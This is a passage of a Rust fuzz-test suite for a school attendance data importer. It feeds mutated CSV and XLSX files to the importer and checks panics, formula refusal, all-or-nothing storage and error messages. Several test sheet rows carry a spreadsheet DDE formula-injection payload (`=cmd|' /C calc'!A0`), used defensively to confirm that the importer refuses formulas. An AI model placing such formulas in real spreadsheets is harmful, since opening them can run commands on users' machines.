            5 => "<row r=\"3\"><c r=\"C3\" t=\"e\"><v>#DIV/0!</v></c><c r=\"D3\" t=\"b\"><v>7</v></c></row>".to_owned(),
            6 => "<row r=\"2\"><c r=\"A2\"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r=\"B2\" t=\"str\"><f>\"=cmd\"</f><v>=cmd|' /C calc'!A0</v></c></row>".to_owned(),
            7 => "<row r=\"4\"><c r=\"E4\" s=\"99\"><v>1e308</v></c><c r=\"F4\"><v>NaN</v></c><c r=\"G4\" t=\"d\"><v>9999-99-99</v></c></row>".to_owned(),
            8 => "<row><c><v>1</v></c><c r=\"\"><v>2</v></c></row>".to_owned(),
            9 => "<row r=\"0\"><c r=\"A0\"><v>1</v></c></row>".to_owned(),
            10 => format!(
                "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>{}</t></is></c></row>",
                "Z".repeat(rng.range(10_000, 200_000))
            ),
            _ => "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>=cmd|' /C calc'!A0</t></is></c></row>".to_owned(),
        };
        story.add(format!("sheet xml piece {}", &piece[..piece.len().min(60)]));
        extra.push_str(&piece);
    }
    let dim = if rng.one_in(3) {
        *rng.pick(&["A1:XFD1048576", "A1", "ZZZZZZ1:A0", "", "A1:B2"])
    } else {
        "A1"
    };
    let mut sheet = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><dimension ref=\"{dim}\"/><sheetData>{rows}{extra}</sheetData></worksheet>"
    )
    .into_bytes();
    if rng.one_in(3) {
        mutate_bytes(&mut sheet, rng, story);
    }
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("[Content_Types].xml", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>".to_vec()),
        ("_rels/.rels", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>".to_vec()),
        ("xl/workbook.xml", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>".to_vec()),
        ("xl/_rels/workbook.xml.rels", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>".to_vec()),
        ("xl/worksheets/sheet1.xml", sheet),
    ];
    stored_zip(&files)
}

// ---------------------------------------------------------------------------------
// One case.

/// A case's input: the file name and bytes, and what went into it.
struct Case {
    name: String,
    bytes: Vec<u8>,
    mapping: ColumnMapping,
    story: Story,
}

fn make_case(importer: Importer, seed: u64, n: usize, files: &[(Layout, Grid)]) -> Case {
    let mut rng = Rng::new(&[seed, importer as u64, n as u64]);
    let mut story = Story::default();
    let layout = layout_of(importer, &mut rng);
    let mut grid = seed_grid(layout, files, &mut rng);
    let grid_mutations = rng.below(4);
    for _ in 0..grid_mutations {
        mutate_grid(&mut grid, &mut rng, &mut story);
    }
    let mut mapping = ColumnMapping::default();
    if rng.one_in(10) {
        mapping.layout = Some(layout);
        story.add(format!("layout forced to {layout}"));
    }
    let (name, mut bytes) = if importer == Importer::Xlsx {
        let bytes = if rng.one_in(40) {
            // An OLE (XLS) signature and junk, or a zip signature and junk.
            story.add("spreadsheet signature and random bytes");
            let mut b = if rng.one_in(2) {
                vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]
            } else {
                b"PK\x03\x04".to_vec()
            };
            let n = rng.range(0, 8192);
            b.extend((0..n).map(|_| rng.byte()));
            b
        } else if rng.one_in(2) {
            to_xlsx(&grid, &mut rng, &mut story)
        } else {
            hand_xlsx(&grid, &mut rng, &mut story)
        };
        (format!("case{n}.xlsx"), bytes)
    } else {
        let text = to_csv(&grid, &mut rng, &mut story);
        (format!("case{n}.csv"), encode(&text, &mut rng, &mut story))
    };
    let byte_mutations = if rng.one_in(3) { rng.range(1, 3) } else { 0 };
    let limit = if importer == Importer::Xlsx {
        1
    } else {
        byte_mutations
    };
    for _ in 0..limit.min(byte_mutations) {
        mutate_bytes(&mut bytes, &mut rng, &mut story);
    }
    Case {
        name,
        bytes,
        mapping,
        story,
    }
}

/// Panics on any thread since the run began (the hook counts them all, including
/// ones caught inside the importer), and of those, the ones raised inside calamine,
/// which the importer contains and reports as an unreadable workbook.
static PANICS: AtomicUsize = AtomicUsize::new(0);
static CALAMINE_PANICS: AtomicUsize = AtomicUsize::new(0);
static LAST_PANIC: Mutex<String> = Mutex::new(String::new());
/// Where calamine panicked, and how often, for the summary.
static CALAMINE_SITES: Mutex<BTreeMap<String, usize>> = Mutex::new(BTreeMap::new());

thread_local! {
    /// Whether this thread is running a fuzz case (its panics are counted).
    static FUZZING: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

fn install_panic_counter() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let previous = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            // The suite is one crate: other tests' threads panic too (some on
            // purpose). Only a fuzz run's own thread and the importer's threads count.
            let ours = FUZZING.with(std::cell::Cell::get)
                || std::thread::current()
                    .name()
                    .is_some_and(|n| n.starts_with("tsm-import"));
            if !ours {
                previous(info);
                return;
            }
            PANICS.fetch_add(1, Ordering::SeqCst);
            let in_calamine = info
                .location()
                .is_some_and(|l| l.file().contains("/calamine-"));
            if in_calamine {
                CALAMINE_PANICS.fetch_add(1, Ordering::SeqCst);
            }
            if in_calamine
                && let (Some(l), Ok(mut sites)) = (info.location(), CALAMINE_SITES.lock())
            {
                let file = l.file().rsplit_once("/src/").map_or(l.file(), |(_, f)| f);
                let message = info
                    .payload()
                    .downcast_ref::<String>()
                    .map(String::as_str)
                    .or_else(|| info.payload().downcast_ref::<&str>().copied())
                    .unwrap_or("");
                *sites
                    .entry(format!("calamine {file}:{}: {message}", l.line()))
                    .or_default() += 1;
            }
            if let Ok(mut last) = LAST_PANIC.lock() {
                *last = format!(
                    "{info} (thread {:?})",
                    std::thread::current().name().unwrap_or("?")
                );
            }
            if !in_calamine {
                previous(info);
            }
        }));
    });
}

/// Tallies for one importer.
#[derive(Default)]
struct Tally {
    cases: usize,
    ok: usize,
    errors: BTreeMap<String, usize>,
    stored: usize,
    store_refused: usize,
    longest_message: usize,
    /// Cases where calamine panicked and the importer turned it into an error.
    calamine_panics: usize,
}

/// An error's kind: the name of its `Problem` variant.
fn kind(problem: &tsm_desk::import::Problem) -> String {
    format!("{problem:?}")
        .chars()
        .take_while(char::is_ascii_alphanumeric)
        .collect()
}

/// Whether stored text starts like a formula: `=` or `@`, or `+`/`-` followed by more
/// than a plain number or name (what the importer is asked to refuse).
fn formula_like(s: &str) -> bool {
    if s.starts_with(['=', '@']) {
        return true;
    }
    let Some(rest) = s.strip_prefix(['+', '-']) else {
        return false;
    };
    let number = rest.chars().all(|c| c.is_ascii_digit() || c == '.');
    let name = rest
        .chars()
        .all(|c| c.is_alphabetic() || matches!(c, ' ' | '\'' | '-'));
    !(number || name)
}

fn check_batch(batch: &ImportBatch) -> Result<(), String> {
    let weekly = match &batch.content {
        BatchContent::Weekly(w) => w.rows.iter().map(|r| (&r.upn, &r.details)).collect(),
        _ => Vec::new(),
    };
    for (upn, d) in batch.pupils.iter().map(|(u, d, _)| (u, d)).chain(weekly) {
        for text in [
            &d.forename,
            &d.surname,
            &d.reg_group,
            &d.ethnicity,
            &d.home_la,
            &d.primary_sen_type,
        ]
        .into_iter()
        .flatten()
        {
            if formula_like(text) {
                return Err(format!("formula-like text stored for {}", upn.as_str()));
            }
        }
    }
    if let BatchContent::Weekly(w) = &batch.content {
        for school in &w.schools {
            for text in [&school.name, &school.phase, &school.la_name]
                .into_iter()
                .flatten()
            {
                if formula_like(text) {
                    return Err(format!(
                        "formula-like school text stored for {}",
                        school.urn
                    ));
                }
            }
        }
    }
    let summary_rows: Vec<(usize, tsm_desk::domain::SessionCounts)> = match &batch.content {
        BatchContent::Summary(rows) => rows.iter().map(|r| (r.line, r.counts)).collect(),
        BatchContent::Weekly(w) => w.rows.iter().map(|r| (r.line, r.counts)).collect(),
        _ => Vec::new(),
    };
    {
        for (line, c) in &summary_rows {
            // Possible sessions are attendance + absence, as the DfE counts them.
            let sum = u64::from(c.present)
                + u64::from(c.approved)
                + u64::from(c.authorised)
                + u64::from(c.unauthorised);
            if sum != u64::from(c.possible) {
                return Err(format!("totals do not add up on line {line}"));
            }
        }
    }
    if let BatchContent::Marks(pupils) = &batch.content {
        for p in pupils {
            for m in &p.marks {
                let y = chrono::Datelike::year(&m.date);
                if !(2000..=2099).contains(&y) {
                    return Err(format!("mark dated {} stored", m.date));
                }
            }
        }
    }
    Ok(())
}

/// A store preloaded with a school and one import, so "unchanged" means something.
fn preloaded_store() -> Store {
    let mut store = Store::open_in_memory().unwrap();
    let details = format!(
        "UPN,Surname,Forename\n{},Testpupil,Alpha\n{},Testpupil,Bravo\n",
        upn(0),
        upn(1)
    );
    let batch = read_bytes("seed.csv", details.into_bytes(), &ColumnMapping::default()).unwrap();
    let options = ImportOptions {
        school_name: Some("Fuzz School".into()),
        ..ImportOptions::default()
    };
    store.import_batch(URN, &batch, &options).unwrap();
    store
}

/// Stores a fresh valid details batch and `batch` in one call and checks the store is
/// all or nothing: if storing fails, neither is kept.
fn store_check(store: &mut Store, batch: &ImportBatch, n: usize) -> Result<bool, String> {
    let before = store.table_counts().map_err(|e| e.to_string())?;
    let fresh = format!("UPN,Surname\n{},Case{n}\n", upn(100 + n % 50));
    let fresh = read_bytes("fresh.csv", fresh.into_bytes(), &ColumnMapping::default())
        .map_err(|e| e.to_string())?;
    let options = ImportOptions {
        term: (batch.layout == Layout::Summary || n.is_multiple_of(3))
            .then(|| Period::new(2025, Term::Autumn)),
        replace: n.is_multiple_of(2),
        as_of: chrono::NaiveDate::from_ymd_opt(2025, 10, 10),
        ..ImportOptions::default()
    };
    match store.import_batches(URN, &[fresh, batch.clone()], &options) {
        Ok(_) => Ok(true),
        Err(e) => {
            let after = store.table_counts().map_err(|e| e.to_string())?;
            if after != before {
                return Err(format!(
                    "store failed ({e}) but changed the tables: {before:?} -> {after:?}"
                ));
            }
            Ok(false)
        }
    }
}

/// Runs one case; `Err` describes a failure.
fn run_case(
    case: Case,
    store: &mut Option<Store>,
    tally: &mut Tally,
    n: usize,
) -> Result<(), String> {
    let Case {
        name,
        bytes,
        mapping,
        story: _,
    } = case;
    let panics_before = PANICS.load(Ordering::SeqCst);
    let calamine_before = CALAMINE_PANICS.load(Ordering::SeqCst);
    let result = catch_unwind(AssertUnwindSafe(|| read_bytes(&name, bytes, &mapping)));
    let panics = PANICS.load(Ordering::SeqCst) - panics_before;
    let calamine = CALAMINE_PANICS.load(Ordering::SeqCst) - calamine_before;
    let last = || LAST_PANIC.lock().map(|l| l.clone()).unwrap_or_default();
    let Ok(result) = result else {
        return Err(format!("panicked: {}", last()));
    };
    if panics > calamine {
        return Err(format!("panicked (caught inside the importer): {}", last()));
    }
    if calamine > 0 {
        tally.calamine_panics += 1;
        if result.is_ok() {
            return Err(format!(
                "calamine panicked but the file read OK: {}",
                last()
            ));
        }
    }
    tally.cases += 1;
    match result {
        Ok(batch) => {
            tally.ok += 1;
            check_batch(&batch)?;
            let s = store.get_or_insert_with(preloaded_store);
            if store_check(s, &batch, n)? {
                tally.stored += 1;
            } else {
                tally.store_refused += 1;
            }
            // Keep the store small: start again now and then.
            if tally.stored % 500 == 499 {
                *store = None;
            }
        }
        Err(e) => {
            let message = e.to_string();
            tally.longest_message = tally.longest_message.max(message.len());
            if !message.starts_with(&name) || e.file != name {
                return Err(format!("error does not name the file: {message}"));
            }
            if message.len() > MAX_MESSAGE {
                return Err(format!(
                    "error message is {} characters long: {}...",
                    message.len(),
                    &message[..message
                        .char_indices()
                        .nth(200)
                        .map_or(message.len(), |(i, _)| i)]
                ));
            }
            // A formula is never repeated as a value (quoted, or in the headers found).
            for f in FORMULAS {
                for before in ["\"", ": ", ", "] {
                    if message.contains(&format!("{before}{f}")) {
                        return Err(format!("error message repeats a formula: {message}"));
                    }
                }
            }
            if let tsm_desk::import::Problem::MissingColumns { missing, .. } = &*e.problem
                && missing.is_empty()
            {
                return Err(format!(
                    "a missing-columns error names no column: {message}"
                ));
            }
            *tally.errors.entry(kind(&e.problem)).or_default() += 1;
        }
    }
    Ok(())
}

/// The process's peak resident memory so far, in MB (0 where /proc is not there).
fn peak_mb() -> f64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<f64>().ok())
        .map_or(0.0, |kb| kb / 1024.0)
}

fn env_usize(name: &str) -> Option<usize> {
    std::env::var(name).ok()?.replace('_', "").parse().ok()
}

fn env_seed() -> u64 {
    std::env::var("TSM_FUZZ_SEED")
        .ok()
        .and_then(|s| {
            let s = s.trim_start_matches("0x");
            u64::from_str_radix(s, 16).ok()
        })
        .unwrap_or(DEFAULT_SEED)
}

/// One fuzz run at a time: the panic counters are global, so a run in parallel would
/// see another's panics.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

fn fuzz(importer: Importer) {
    let _one = ONE_AT_A_TIME
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    install_panic_counter();
    FUZZING.with(|f| f.set(true));
    let seed = env_seed();
    let files = file_seeds();
    if let Ok(replay) = std::env::var("TSM_FUZZ_REPLAY") {
        let Some((who, n)) = replay.split_once(':') else {
            panic!("TSM_FUZZ_REPLAY is importer:case");
        };
        if who != importer.name() {
            return;
        }
        let n: usize = n.parse().unwrap();
        let case = make_case(importer, seed, n, &files);
        eprintln!(
            "replaying {} case {n} ({} bytes): {:?}",
            importer.name(),
            case.bytes.len(),
            case.story.0
        );
        let mut store = None;
        let mut tally = Tally::default();
        if let Err(e) = run_case(case, &mut store, &mut tally, n) {
            panic!("{} case {n} failed: {e}", importer.name());
        }
        eprintln!(
            "{:?} ok {} errors {:?}",
            importer.name(),
            tally.ok,
            tally.errors
        );
        return;
    }
    let cases = env_usize("TSM_FUZZ_CASES").unwrap_or(DEFAULT_CASES);
    let started = Instant::now();
    let mut tally = Tally::default();
    let mut store = None;
    let mut failures = Vec::new();
    let mut peak = peak_mb();
    let mut jumps = Vec::new();
    for n in 0..cases {
        let case = make_case(importer, seed, n, &files);
        let story = case.story.0.join("; ");
        let input = case.bytes.len();
        let result = run_case(case, &mut store, &mut tally, n);
        let now = peak_mb();
        if now > peak + 256.0 {
            jumps.push(format!(
                "case {n} ({input} bytes in) raised the peak to {now:.0} MB: {}",
                story.chars().take(160).collect::<String>()
            ));
        }
        peak = peak.max(now);
        if let Err(e) = result {
            let story: String = story.chars().take(400).collect();
            failures.push(format!(
                "{} case {n} (seed {seed:#x}; replay with TSM_FUZZ_SEED={seed:x} TSM_FUZZ_REPLAY={}:{n}): {e}\n  mutations: {story}",
                importer.name(),
                importer.name()
            ));
            if failures.len() >= 10 {
                break;
            }
        }
    }
    let elapsed = started.elapsed().as_secs_f64();
    let mut summary = format!(
        "{}: {} cases in {elapsed:.1} s ({:.0} cases/s), seed {seed:#x}: {} read OK ({} stored, {} refused by the store), {} errors ({} of them calamine panics caught by the importer), longest message {} chars",
        importer.name(),
        tally.cases,
        tally.cases as f64 / elapsed.max(1e-9),
        tally.ok,
        tally.stored,
        tally.store_refused,
        tally.cases - tally.ok,
        tally.calamine_panics,
        tally.longest_message
    );
    let mut kinds: Vec<(&String, &usize)> = tally.errors.iter().collect();
    kinds.sort_by(|a, b| b.1.cmp(a.1));
    for (k, n) in kinds {
        let _ = write!(summary, "\n    {n:>7}  {k}");
    }
    if let Ok(mut sites) = CALAMINE_SITES.lock() {
        for (site, n) in std::mem::take(&mut *sites) {
            let _ = write!(summary, "\n    {n:>7}  panic caught: {site}");
        }
    }
    let _ = write!(
        summary,
        "\n    peak memory of the process so far: {peak:.0} MB"
    );
    for j in &jumps {
        let _ = write!(summary, "\n    memory: {j}");
    }
    eprintln!("{summary}");
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert_eq!(tally.cases, cases, "every case ran");
    assert!(tally.ok > 0, "some cases read OK");
    assert!(tally.cases > tally.ok, "some cases were refused");
}

#[test]
fn fuzz_summary_csv() {
    fuzz(Importer::Summary);
}

#[test]
fn fuzz_marks_long_csv() {
    fuzz(Importer::MarksLong);
}

#[test]
fn fuzz_marks_wide_csv() {
    fuzz(Importer::MarksWide);
}

#[test]
fn fuzz_details_csv() {
    fuzz(Importer::Details);
}

#[test]
fn fuzz_dfe_weekly() {
    fuzz(Importer::DfeWeekly);
}

#[test]
fn fuzz_xlsx() {
    fuzz(Importer::Xlsx);
}

/// Every layout tsm-desk reads has a CSV importer here and is among the layouts the
/// XLSX importer draws from: a layout added to the domain without a fuzz importer fails
/// to compile (the match has no wildcard) or fails here.
#[test]
fn every_importer_is_fuzzed() {
    for layout in Layout::ALL {
        let importer = match layout {
            Layout::Summary => Importer::Summary,
            Layout::MarksLong => Importer::MarksLong,
            Layout::MarksWide => Importer::MarksWide,
            Layout::Details => Importer::Details,
            Layout::DfeWeekly => Importer::DfeWeekly,
        };
        assert!(IMPORTERS.contains(&importer), "{layout:?} is not fuzzed");
        assert_eq!(layout_of(importer, &mut Rng::new(&[1])), layout);
        let mut drawn = std::collections::BTreeSet::new();
        let mut rng = Rng::new(&[2]);
        for _ in 0..200 {
            drawn.insert(layout_of(Importer::Xlsx, &mut rng).as_str());
        }
        assert!(
            drawn.contains(layout.as_str()),
            "XLSX never draws {layout:?}"
        );
    }
    assert!(IMPORTERS.contains(&Importer::Xlsx));
}
